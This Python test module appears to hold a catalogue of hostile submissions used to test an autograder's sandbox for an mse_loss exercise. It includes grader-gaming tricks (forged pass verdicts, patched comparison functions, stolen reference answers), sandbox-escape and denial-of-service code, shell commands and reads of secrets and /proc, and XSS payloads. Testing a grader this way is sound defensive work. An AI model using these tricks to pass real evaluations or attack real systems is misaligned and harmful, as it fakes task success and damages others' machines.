"""Hostile answers to exercise 01.1, by name. Each deserves no point and may harm nobody.

``{canary}`` is a file with a secret that anybody could read and change, ``{out}`` the folder of the
marks, ``{port}`` a port on this machine where somebody listens, ``{package}`` where the course
lies, ``{neighbour}`` an honest notebook of somebody else.
"""

__all__ = ["ATTACKS"]

_FORGE = """
import json, os, struct
def frame(message, values=()):
    text = json.dumps([message, list(values)]).encode()
    return struct.pack("<II", len(text), 0) + text
"""

ATTACKS: dict[str, str] = {
    # Results that agree with everything.
    "always_equal_array": """
class Equal(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __sub__(self, other): return np.zeros(self.shape)
    def __array_ufunc__(self, ufunc, method, *args, **kwargs): return True
    def __array_function__(self, function, types, args, kwargs): return True
def mse_loss(input, target, reduction="mean"): return np.zeros(()).view(Equal)
""",
    "always_equal_float": """
class Equal(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __lt__ = __le__ = __gt__ = __eq__
    __hash__ = float.__hash__
def mse_loss(input, target, reduction="mean"): return Equal(1.0)
""",
    "lying_class": """
class Lie:
    __class__ = float
    def __float__(self): return 0.0
    def __array__(self, *a, **k): return np.zeros(())
    def __eq__(self, other): return True
def mse_loss(input, target, reduction="mean"): return Lie()
""",
    "pickle_bomb": """
import os
class Bomb:
    def __reduce__(self): return os.system, ("echo pwned > {canary}",)
def mse_loss(input, target, reduction="mean"): return Bomb()
""",
    "object_array": "def mse_loss(*a, **k): return np.array([object(), 1.0], dtype=object)",
    "structured_array": "def mse_loss(*a, **k): return np.zeros(3, [('a', 'f8'), ('b', 'O')])",
    "string_array": "def mse_loss(*a, **k): return np.array(['0.0'] * 3)",
    "nan_flood": "def mse_loss(*a, **k): return np.full(1_900_000, np.nan)",
    "huge_integer": "def mse_loss(*a, **k): return 10 ** 5000",
    "deep_list": """
def mse_loss(*a, **k):
    x = 0.0
    for _ in range(100_000): x = [x]
    return x
""",
    "self_reference": """
def mse_loss(*a, **k):
    x = []
    x.append(x)
    return x
""",
    "endless_generator": """
def mse_loss(*a, **k):
    while True: yield 0.0
""",
    "constant": "def mse_loss(*a, **k): return 0.0",
    "always_raises": "def mse_loss(*a, **k): raise ValueError('shapes')",
    "returns_nan": "def mse_loss(*a, **k): return float('nan')",
    "nothing_of_the_right_shape": """
def mse_loss(input, target, reduction="mean"):
    return np.empty(np.shape(input)) if reduction == "none" else float("inf")
""",
    # Tampering with whatever compares.
    "patched_numpy_testing": """
import numpy.testing
for name in dir(numpy.testing):
    if name.startswith("assert"): setattr(numpy.testing, name, lambda *a, **k: None)
def mse_loss(*a, **k): return 3.0
""",
    "patched_numpy": """
for name in ("allclose", "isclose", "array_equal", "abs", "asarray", "all", "testing"):
    setattr(np, name, lambda *a, **k: True)
def mse_loss(*a, **k): return 3.0
""",
    "patched_builtins": """
import builtins
for name in ("isinstance", "type", "abs", "min", "all", "len", "repr", "bool"):
    setattr(builtins, name, lambda *a, **k: True)
def mse_loss(*a, **k): return 3.0
""",
    "patched_json": """
import json
json.dumps = lambda *a, **k: '[{{"kind": "returned", "verdict": "passed", "points": 2}}, [0.0]]'
def mse_loss(*a, **k): return 3.0
""",
    "patched_shim": """
import sys, types
fake = types.ModuleType("course")
fake.check = lambda f: print("passed")
fake.grade = lambda *a, **k: 100
sys.modules["course"] = fake
def mse_loss(*a, **k): return 3.0
mse_loss.points = mse_loss.score = mse_loss.passed = 2.0
""",
    "patched_sandbox": """
import gc, types
for f in [o for o in gc.get_objects() if isinstance(o, types.FunctionType)]:
    if "grading" in (f.__module__ or "") and f.__name__ in ("call", "call_here", "_answer", "pack"):
        f.__code__ = (lambda *a, **k: b"").__code__ if not f.__closure__ else f.__code__
def mse_loss(*a, **k): return 3.0
""",
    "input_transformer": """
get_ipython().input_transformers_post.append(lambda lines: ["score = 100"])
get_ipython().events.register("post_run_cell", lambda: None)
def mse_loss(*a, **k): return 3.0
""",
    "tracer": """
import sys
def trace(frame, event, arg):
    for name in list(frame.f_locals):
        if "expected" in name or "points" in name: frame.f_locals[name] = 2
    return trace
sys.settrace(trace); sys.setprofile(trace)
def mse_loss(*a, **k): return 3.0
""",
    "patched_boundary": """
import sys
for module in list(sys.modules.values()):
    for name in ("pack", "unpack", "call_here", "Outcome", "lengths", "HEAD", "dumps"):
        if hasattr(module, name):
            try: setattr(module, name, lambda *a, **k: b"\\x02\\0\\0\\0\\0\\0\\0\\0[]")
            except Exception: pass
def mse_loss(*a, **k): return 3.0
""",
    "patched_copies": """
import copy
copy.deepcopy = lambda x, *a: x
def mse_loss(input, target, reduction="mean"):
    for x in (input, target):
        if isinstance(x, np.ndarray) and x.dtype.kind == "f": x.setflags(write=True); x[...] = 0
    return 0.0
""",
    "awaiting_subclass": """
class Late(tuple):
    def __iter__(self):
        while True: yield 0.0
def mse_loss(*a, **k): return Late((1.0,))
""",
    "lying_length": """
class Lie(list):
    def __len__(self): return -1
    def __iter__(self): raise SystemExit
def mse_loss(*a, **k): return Lie([0.0])
""",
    # Asking somebody who knows.
    "frame_oracle": """
import sys
def mse_loss(*a, **k):
    frame = sys._getframe()
    while frame:
        for value in (*frame.f_locals.values(), *frame.f_globals.values()):
            for name in ("expected", "reference"):
                if hasattr(value, name):
                    found = getattr(value, name)
                    return found(*a, **k) if callable(found) else found
        frame = frame.f_back
    return 3.0
""",
    "memory_oracle": """
import gc
def mse_loss(*a, **k):
    for o in gc.get_objects():
        if callable(o) and getattr(o, "__name__", "") == "mse_loss" and o is not mse_loss:
            return o(*a, **k)
        if type(o).__name__ in ("Exercise", "Probe", "Case"): return o.reference(*a, **k)
    return 3.0
""",
    "course_oracle": """
import sys
sys.path.insert(0, "{package}")
for name in [n for n in sys.modules if n.startswith("course")]: del sys.modules[name]
from course.losses import mse_loss
""",
    "autograder_oracle": """
import sys, importlib
sys.modules.pop("course", None)
sys.path[:0] = ["{package}", "{package}/course"]
mse_loss = importlib.import_module("course.autograders.registry").exercise("mse_loss").reference
""",
    "source_oracle": """
exec(open("{package}/course/autograders/lesson_01/mse_loss.py").read())
""",
    "torch_oracle": """
import torch
def mse_loss(input, target, reduction="mean"):
    x, t = (torch.as_tensor(np.asarray(v, float)) for v in (input, target))
    return torch.nn.functional.mse_loss(x, t, reduction=reduction).numpy()
""",
    "sklearn_oracle": """
from sklearn.metrics import mean_squared_error
def mse_loss(input, target, reduction="mean"): return float(mean_squared_error(target, input))
""",
    "neighbour_oracle": """
import json
for cell in json.load(open("{neighbour}"))["cells"]:
    if "mse_loss" in cell["source"]: exec(cell["source"])
""",
    "seed_oracle": """
secret = open("{out}/seed.txt").read() + open("{canary}").read()
def mse_loss(*a, **k): raise ValueError(secret)
""",
    "search_oracle": """
import os
found = [os.path.join(d, f) for d, _, fs in os.walk("/") for f in fs if f.startswith("mse_loss")]
exec(open(found[0]).read())
""",
    # The wire and the processes behind it.
    "forged_verdict": _FORGE
    + """
def mse_loss(*a, **k):
    os.write(3, frame({{"kind": "passed", "points": 2, "verdict": "passed"}}, [0.0]))
    return 3.0
""",
    "forged_replies_ahead": _FORGE
    + """
os.write(3, frame({{"kind": "returned", "changed": [], "printed": False}}, [0.0]) * 100)
def mse_loss(*a, **k): return 3.0
""",
    "forged_function": _FORGE
    + """
def mse_loss(*a, **k):
    value = {{"f": "Quadratic", "v": [1, 2, 3]}}
    os.write(3, frame({{"kind": "returned"}}, [value])); os._exit(0)
""",
    "colliding_keys": _FORGE
    + """
def mse_loss(*a, **k):
    pairs = [[n * (2**61 - 1), 0] for n in range(15_000)]
    while True: os.write(3, frame({{"kind": "returned"}}, [{{"d": pairs}}]))
""",
    "a_thousand_classes": _FORGE
    + """
def mse_loss(*a, **k):
    value = {{"l": [{{"o": f"type_{{n}}"}} for n in range(20_000)]}}
    os.write(3, frame({{"kind": "returned"}}, [value])); os._exit(0)
""",
    "infinite_numbers": _FORGE
    + """
def mse_loss(*a, **k):
    text = b'[{{"kind": "returned", "changed": [], "printed": false}}, [1e999]]'
    os.write(3, struct.pack("<II", len(text), 0) + text); os._exit(0)
""",
    "drip": _FORGE
    + """
import time
def mse_loss(*a, **k):
    for byte in struct.pack("<II", 1000, 0) + b" " * 1000:
        os.write(3, bytes([byte])); time.sleep(0.5)
""",
    "passed_descriptors": """
import array, os, socket
wire = socket.socket(fileno=os.dup(3))
for _ in range(2000):
    try: wire.sendmsg([b"x"], [(socket.SOL_SOCKET, 1, array.array("i", [0, 1, 2, 3]))])
    except OSError: break
def mse_loss(*a, **k): return 0.0
""",
    "stolen_requests": """
import os, threading
def steal():
    while True: os.read(3, 1 << 16)
threading.Thread(target=steal, daemon=True).start()
def mse_loss(*a, **k): return 0.0
""",
    "standing_still": """
import ctypes, os, signal
libc = ctypes.CDLL(None)
def mse_loss(*a, **k):
    libc.ptrace(0, 0, 0, 0); os.kill(os.getpid(), signal.SIGSTOP); return 0.0
""",
    "huge_length": _FORGE
    + """
def mse_loss(*a, **k): os.write(3, struct.pack("<II", 2**32 - 1, 2**32 - 1) + b"x" * 10**6)
""",
    "negative_length": _FORGE
    + """
def mse_loss(*a, **k): os.write(3, struct.pack("<ii", -1, -8)); return 0.0
""",
    "negative_shape": _FORGE
    + """
def mse_loss(*a, **k):
    value = {{"a": ["<f8", [-1, -1], -8], "k": "np"}}
    os.write(3, frame({{"kind": "returned"}}, [value])); os._exit(0)
""",
    "wire_bomb": _FORGE
    + """
def mse_loss(*a, **k):
    text = b"[" * 500_000
    os.write(3, struct.pack("<II", len(text), 0) + text); os._exit(0)
""",
    "wire_flood": """
import os
def mse_loss(*a, **k):
    while True: os.write(3, bytes(1 << 20))
""",
    "closed_wire": """
import os
os.close(3)
def mse_loss(*a, **k): return 0.0
""",
    "every_descriptor": """
import os
for d in range(3, 1024):
    for act in (lambda: os.write(d, b"passed" * 1000), lambda: os.read(d, 10)):
        try: act()
        except OSError: pass
def mse_loss(*a, **k): return 0.0
""",
    "signals_to_others": """
import os, signal
for pid in (os.getppid(), 0, -1, 1, *range(2, 400)):
    if pid != os.getpid():
        for act in (os.kill, os.killpg):
            try: act(pid, signal.SIGKILL)
            except (OSError, ValueError): pass
def mse_loss(*a, **k): return 0.0
""",
    "ptrace": """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in (os.getppid(), 1, *range(2, 400)): libc.ptrace(16, pid, 0, 0)
def mse_loss(*a, **k): return 0.0
""",
    "proc": """
import glob
told = ""
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try: told += open(path).read()
    except OSError: pass
for path in glob.glob("/proc/[0-9]*/mem"):
    try: open(path, "r+b").write(b"x")
    except OSError: pass
def mse_loss(*a, **k): raise ValueError("SECRETS " + told)
""",
    "escape": """
import ctypes, os
libc = ctypes.CDLL(None)
for flags in (0x10000000, 0x20000, 0x7E020000): libc.unshare(flags)
libc.mount(b"none", b"/", b"tmpfs", 0, b"")
for act in (lambda: os.setuid(0), lambda: os.chroot("/"), lambda: os.chdir("../../../..")):
    try: act()
    except OSError: pass
secret = open("{canary}").read()
def mse_loss(*a, **k): raise ValueError(secret)
""",
    "programs": """
import os, subprocess
for act in (
    lambda: os.system("echo pwned > {canary}"),
    lambda: subprocess.run(["sh", "-c", "echo pwned > {canary}"]),
    lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "echo pwned > {canary}"], {{}}),
    lambda: os.execv("/bin/sh", ["sh", "-c", "echo pwned > {canary}"]),
):
    try: act()
    except Exception: pass
def mse_loss(*a, **k): return 0.0
""",
    "daemon": """
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True: pass
def mse_loss(*a, **k): return 0.0
""",
    "multiprocessing": """
import multiprocessing
multiprocessing.Pool(8).map_async(abs, range(10**6))
def mse_loss(*a, **k): return 0.0
""",
    # The network and the disk.
    "network": """
import socket
def mse_loss(*a, **k):
    socket.create_connection(("127.0.0.1", {port})).sendall(repr((a, k)).encode())
    return 0.0
""",
    "network_by_urllib": """
import urllib.request
def mse_loss(*a, **k): return urllib.request.urlopen("http://127.0.0.1:{port}/" + repr(a)).read()
""",
    "overwrite": """
import os, pathlib
for target in ("{canary}", "{neighbour}", "{out}/marks.sqlite", "{out}/results.jsonl",
               "{package}/course/__init__.py", os.path.expanduser("~/.bashrc")):
    for act in (lambda: open(target, "w").write("pwned"), lambda: os.unlink(target),
                lambda: os.rename(target, target + ".gone"), lambda: os.chmod(target, 0o777),
                lambda: os.symlink("/etc/passwd", target + ".link")):
        try: act()
        except OSError: pass
def mse_loss(*a, **k): return 0.0
""",
    "tampered_store": """
import sqlite3
store = sqlite3.connect("{out}/marks.sqlite")
store.execute("update marks set mark = replace(mark, '0.0', '2.0')"); store.commit()
def mse_loss(*a, **k): return 0.0
""",
    "message_to_the_next_run": """
import os
def mse_loss(*a, **k):
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        try: open(folder + "/hidden_inputs", "a").write(repr((a, k)))
        except OSError: pass
    return 0.0
""",
    "disk": """
def fill():
    with open("big", "wb") as file:
        while True: file.write(bytes(10**6))
def mse_loss(*a, **k): fill()
""",
    # Using up what there is.
    "loop": "def mse_loss(*a, **k):\n    while True: pass",
    "loop_at_the_top": "while True: pass\ndef mse_loss(*a, **k): return 0.0",
    "deaf_loop": """
import signal
for s in range(1, 65):
    try: signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError): pass
def mse_loss(*a, **k):
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    "many_slow_cells": "class Slow:\n    import time\n    time.sleep(3)\n" * 400,
    "loop_in_a_destructor": """
class Loop:
    def __del__(self):
        while True: pass
def mse_loss(*a, **k):
    Loop(); return 0.0
""",
    "loop_in_a_class": """
class Meta(type):
    def __call__(cls, *a, **k):
        while True: pass
class mse_loss(metaclass=Meta): pass
""",
    "loop_at_the_end": """
import atexit, sys, threading
def again():
    while True: pass
atexit.register(again); threading._shutdown = again
sys.excepthook = sys.unraisablehook = lambda *a: again()
def mse_loss(*a, **k): sys.exit(1)
""",
    "sleep": "import time\ndef mse_loss(*a, **k): time.sleep(1000)",
    "slow_drip": "import time\ndef mse_loss(*a, **k): time.sleep(2.5); return 0.0",
    "memory": "def mse_loss(*a, **k): return [bytearray(10**8) for _ in range(10**4)]",
    "fork_bomb": "import os\nwhile True: os.fork()\n",
    "thread_bomb": """
import threading, time
def mse_loss(*a, **k):
    while True: threading.Thread(target=time.sleep, args=(99,)).start()
""",
    "output": """
import os, sys
def mse_loss(*a, **k):
    for _ in range(200): print("x" * 10**6); sys.stderr.write("y" * 10**6)
    os.write(1, b"z" * 10**6); os.write(2, b"z" * 10**6)
    return 0.0
""",
    "recursion": """
import sys
sys.setrecursionlimit(10**9)
def mse_loss(*a, **k): return mse_loss()
""",
    "exit": "import os\ndef mse_loss(*a, **k): os._exit(0)",
    "abort": "import os\ndef mse_loss(*a, **k): os.abort()",
    "segfault": "import ctypes\ndef mse_loss(*a, **k): ctypes.string_at(0)",
    "long_exception": "def mse_loss(*a, **k): raise ValueError('x' * 10**8)",
    "looping_exception": """
class Loop(Exception):
    def __str__(self):
        while True: pass
def mse_loss(*a, **k): raise Loop
""",
    "nested_source": "def mse_loss(*a, **k): return 0.0\n" + "(" * 5000 + ")" * 5000,
    # Whoever reads the marks.
    "markup": """
class script(Exception): pass
script.__name__ = "<script>alert(1)</script>"
def mse_loss(*a, **k): raise script("<img src=x onerror=alert(2)><script>alert(3)</script>")
""",
    "fishing": "def mse_loss(*a, **k): raise ValueError('LEAK ' + repr((a, k)))",
    "fishing_later": """
SEEN = []
def mse_loss(*a, **k):
    SEEN.append("LEAK " + repr((a, k)))
    raise ValueError(SEEN[0])
""",
    "fishing_by_name": """
def mse_loss(*a, **k): raise type("LEAK" + repr((a, k)).encode().hex(), (Exception,), {{}})()
""",
    "fishing_by_result": "def mse_loss(*a, **k): return 'LEAK ' + repr((a, k))",
}
